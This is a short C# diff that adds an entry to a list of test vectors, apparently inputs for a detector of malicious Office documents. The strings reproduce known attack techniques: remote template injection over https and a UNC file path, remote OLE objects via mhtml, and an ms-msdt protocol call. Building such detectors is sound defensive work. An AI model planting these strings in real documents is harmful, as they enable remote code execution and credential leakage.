@@ -14,6 +14,7 @@ internal static class DocumentVectors
     public static IReadOnlyList<RuleVector> All { get; } =
     [
         new("Ooxml_Remote_Template", Relation + "attachedTemplate\" Target=\"https://x.example/t.dotm\" TargetMode=\"External\"/>"),
+        new("Ooxml_Remote_Template", Relation + "attachedTemplate\" Target=\"file:///\\\\192.0.2.1\\s\\t.dotm\" TargetMode=\"External\"/>"),
         new("Ooxml_Remote_Object", Relation + "oleObject\" Target=\"mhtml:https://x.example/p.html!x-usc:https://x.example/p.html\" TargetMode=\"External\"/>"),
         new("Ooxml_Remote_Object", Relation + "oleObject\" Target=\"https://x.example/p.html!\" TargetMode=\"External\"/>"),
         new("Diagnostic_Protocol", "location.href = \"ms-msdt:/id PCWDiagnostic /skip force\""),
